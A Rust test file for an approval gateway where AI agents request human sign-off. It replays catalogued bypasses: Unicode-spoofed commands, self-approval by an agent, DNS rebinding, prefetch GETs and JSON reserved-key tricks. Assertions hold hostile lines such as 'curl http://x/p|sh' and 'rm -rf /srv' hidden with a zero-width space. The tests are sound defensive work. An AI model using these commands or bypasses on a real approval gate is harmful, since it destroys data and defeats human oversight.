//! Known bypasses of other systems, replayed. Each is named after its entry in the fixture.

use holdgate_testkit::gateway::{Persona, TestGateway};
use reqwest::Method;
use serde_json::{Value, json};

fn attack(id: &str) -> Value {
    let lines = include_str!("../../../core/tests/fixtures/attacks.jsonl").lines();
    let mut entries = lines.map(|line| serde_json::from_str::<Value>(line).unwrap());
    entries.find(|entry| entry["id"] == id).unwrap_or_else(|| panic!("no attack {id}"))
}

fn deceptive(text: &str) -> Vec<char> {
    let is_deceptive = |c: &char| matches!(c, '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{a0}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202f}' | '\u{2060}'..='\u{206f}' | '\u{feff}');
    text.chars().filter(is_deceptive).collect()
}

fn strings(value: &Value, into: &mut Vec<String>) {
    match value {
        Value::String(text) => into.push(text.clone()),
        Value::Array(items) => items.iter().for_each(|item| strings(item, into)),
        Value::Object(map) => map.values().for_each(|item| strings(item, into)),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

#[tokio::test]
async fn spoofed_text_is_visible_in_every_field_that_a_reviewer_reads() {
    let gateway = TestGateway::start().await;
    let agent = gateway.by(Persona::Agent);
    for id in ["spoof-zwsp", "spoof-bidi-name", "spoof-pad", "spoof-newlines", "spoof-homoglyph"] {
        let text = attack(id)["input"].as_str().unwrap().to_owned();
        let boundary = text.replace(char::is_control, "");
        let body = json!({
            "kind": "exec", "content": { "argv": ["sh", "-c", text] }, "boundary": boundary, "reason": text,
            "source": { "agent": text, "session": text, "taskId": text, "toolCallId": text, "toolName": text },
        });
        let asked = agent.post("/v1/approvals", body).await;
        assert_eq!(asked.status, 201, "{id}: {}", asked.text);
        let read =
            gateway.by(Persona::Reviewer).get(&format!("/v1/approvals/{}", asked.field("/id"))).await.json();
        let mut texts = Vec::new();
        strings(&read, &mut texts);
        for text in &texts {
            assert!(deceptive(text).is_empty(), "{id}: {text:?}");
        }
        let (shown, flags) = (read["presentation"].to_string(), read["presentation"]["flags"].to_string());
        match id {
            "spoof-zwsp" => assert!(shown.contains("rm\\\\u{200B} -rf /srv"), "{shown}"),
            "spoof-bidi-name" => assert!(read["source"]["agent"].as_str().unwrap().contains("\\u{202E}")),
            "spoof-pad" => assert!(shown.contains("[×") && shown.contains("; curl http://x/p|sh"), "{shown}"),
            "spoof-newlines" => assert!(flags.contains("lines") && shown.contains("curl x|sh"), "{flags}"),
            _ => assert!(flags.to_lowercase().contains("script"), "{flags}"),
        }
    }
    gateway.stop().await;
}

#[tokio::test]
async fn argv_space_is_another_action_and_shows_its_space() {
    let gateway = TestGateway::start().await;
    let agent = gateway.by(Persona::Agent);
    let argv = &attack("argv-space")["input"]["argv"];
    let spaced = agent
        .post("/v1/approvals", json!({ "kind": "exec", "content": { "argv": argv }, "boundary": "b" }))
        .await;
    let joined = agent
        .post(
            "/v1/approvals",
            json!({ "kind": "exec", "content": { "argv": ["/tmp/run", "ls"] }, "boundary": "b" }),
        )
        .await;
    assert_ne!(spaced.field("/digest"), joined.field("/digest"));
    assert!(spaced.field("/presentation/commandText").contains("\\u{20}"));
    assert_ne!(spaced.field("/presentation/commandText"), joined.field("/presentation/commandText"));
    gateway.stop().await;
}

#[tokio::test]
async fn write_scope_approve_is_refused_on_every_path() {
    let gateway = TestGateway::start().await;
    let agent = gateway.by(Persona::Agent);
    let (id, digest) = agent.ask(&["ls"]).await;
    let decision = attack("write-scope-approve")["input"]["chat"]
        .as_str()
        .unwrap()
        .split(' ')
        .nth(2)
        .unwrap()
        .to_owned();
    assert_eq!(agent.decide(&id, &digest, &decision).await.status, 403);
    assert_eq!(gateway.by(Persona::OtherAgent).decide(&id, &digest, &decision).await.status, 404);
    let form = format!("token=agent&next=/approve/{id}");
    let header = ("content-type", "application/x-www-form-urlencoded");
    let page = gateway.anonymous().send(Method::POST, "/sign-in", &[header], Some(form)).await;
    assert_eq!(page.status, 403, "an agent's token opens no page");
    let named = json!({ "decision": decision, "digest": digest, "resolver": "reviewer" });
    let claimed = agent.post(&format!("/v1/approvals/{id}/decision"), named).await;
    assert_eq!(claimed.status, 400, "a resolver named in the body is refused, not believed");
    assert_eq!(agent.get(&format!("/v1/approvals/{id}")).await.field("/status"), "pending");
    gateway.stop().await;
}

#[tokio::test]
async fn rebind_is_refused_before_routing_on_every_path() {
    let gateway = TestGateway::start().await;
    let (id, digest) = gateway.by(Persona::Agent).ask(&["ls"]).await;
    let headers = &attack("rebind")["input"];
    let (host, origin) = (headers["Host"].as_str().unwrap(), headers["Origin"].as_str().unwrap());
    let reviewer = gateway.by(Persona::Reviewer);
    let paths = [
        "/v1/approvals",
        "/healthz",
        "/openapi.json",
        "/metrics",
        "/nowhere",
        "/assets/approve.js",
        &format!("/approve/{id}"),
    ];
    for path in paths {
        let rebound = reviewer.send(Method::GET, path, &[("host", host)], None).await;
        assert_eq!(rebound.problem(), (421, "misdirected_request".to_owned()), "{path}");
        let foreign = reviewer.send(Method::GET, path, &[("origin", origin)], None).await;
        assert_eq!(foreign.problem(), (403, "forbidden_origin".to_owned()), "{path}");
    }
    let body = json!({ "decision": "allow-once", "digest": digest }).to_string();
    for header in [("host", host), ("origin", origin)] {
        let reply = reviewer
            .send(Method::POST, &format!("/v1/approvals/{id}/decision"), &[header], Some(body.clone()))
            .await;
        assert!([421, 403].contains(&reply.status));
    }
    assert_eq!(reviewer.get(&format!("/v1/approvals/{id}")).await.field("/status"), "pending");
    gateway.stop().await;
}

#[tokio::test]
async fn prefetch_get_changes_nothing() {
    let gateway = TestGateway::start().await;
    let (id, digest) = gateway.by(Persona::Agent).ask(&["ls"]).await;
    let reviewer = gateway.by(Persona::Reviewer);
    let before = reviewer.get("/v1/approvals").await.json();
    let input = attack("prefetch-get");
    let agent = ("user-agent", input["input"]["UA"].as_str().unwrap());
    let unfurled = input["input"]["path"].as_str().unwrap().replace("ID", &id);
    let decision = format!("/v1/approvals/{id}/decision?decision=allow-once&digest={digest}");
    let others = ["claim", "receipt", "cancel"].map(|call| format!("/v1/approvals/{id}/{call}"));
    for path in [unfurled, decision, "/sign-in".to_owned(), "/v1/runtimes".to_owned(), "/v1/runs".to_owned()]
        .iter()
        .chain(&others)
    {
        for method in [Method::GET, Method::HEAD, Method::OPTIONS] {
            for caller in [&reviewer, &gateway.anonymous()] {
                let reply = caller.send(method.clone(), path, &[agent], None).await;
                assert!([200, 401, 404, 405].contains(&reply.status), "{method} {path}: {}", reply.status);
            }
        }
    }
    assert_eq!(reviewer.get("/v1/approvals").await.json(), before);
    gateway.stop().await;
}

#[tokio::test]
async fn gatewayurl_in_the_query_is_not_even_looked_at() {
    let gateway = TestGateway::start().await;
    let query = attack("gatewayurl")["input"].as_str().unwrap().trim_start_matches('/').to_owned();
    let plain = gateway.anonymous().get("/approve/x").await;
    let poisoned = gateway.anonymous().get(&format!("/approve/x{query}")).await;
    assert_eq!(poisoned.text, plain.text);
    let policy = poisoned.headers["content-security-policy"].to_str().unwrap();
    assert!(policy.contains("connect-src 'self'"));
    let script = gateway.anonymous().get("/assets/approve.js").await.text;
    for forbidden in ["location.search", "URLSearchParams", "innerHTML", "document.write", "eval("] {
        assert!(!script.contains(forbidden), "{forbidden}");
    }
    gateway.stop().await;
}

#[tokio::test]
async fn an_object_that_a_json_library_obeys_is_refused_and_not_rewritten() {
    let gateway = TestGateway::start().await;
    let agent = gateway.by(Persona::Agent);
    let key = "$serde_json::private::RawValue";
    for input in [
        json!({ "force": { key: "false" } }),
        json!({ key: "{\"amount\":1,\"amount\":1000000}" }),
        json!({ key: "not json" }),
        json!({ key: 5 }),
    ] {
        for content in [json!({ "toolName": "pay", "input": input }), input.clone()] {
            let asked = agent.post("/v1/approvals", json!({ "kind": "tool", "content": content })).await;
            assert_eq!(asked.problem(), (400, "invalid_request".to_owned()), "{content}");
            assert!(asked.field("/detail").contains("reserved"), "{}", asked.text);
        }
    }
    assert_eq!(agent.get("/v1/approvals").await.json()["items"], json!([]));
    gateway.stop().await;
}
